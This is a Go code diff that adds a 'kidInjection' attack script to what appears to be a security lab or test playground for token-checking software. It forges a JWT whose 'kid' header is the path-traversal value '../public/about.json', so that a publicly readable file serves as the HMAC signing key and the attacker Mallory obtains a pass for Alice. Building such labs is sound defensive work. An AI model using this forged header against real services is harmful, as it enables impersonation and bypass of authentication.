@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"strings"
 
+	"claimcheck/mockprovider/lab"
 	"claimcheck/playground"
 )
 
@@ -103,4 +104,17 @@ func weakSecret() *script {
 		}
 		return ""
 	})
+}
+
+// kidInjection is the attack kid-injection: the name of the key is a path to a file
+// that Mallory has read (RFC 8725 §3.10).
+func kidInjection() *script {
+	actions := passSteps()
+	actions["about"] = mallorySends("about", "pass-request", "/v1/about", needs("pass-request", "has no pass for Mallory yet", func(_ context.Context, w *Walk) (*Draft, error) {
+		l := w.run.Lab()
+		return get(l.Origin() + "/rs/" + l.ID() + "/" + lab.StepCloud + "/v1/about")
+	}))
+	return passAttack(actions, "about", func(w *Walk) string {
+		return passForAlice(w, `{"alg":"HS256","typ":"pass+jwt","kid":"../public/about.json"}`, w.current("about").Response.Body)
+	}, nil)
 }
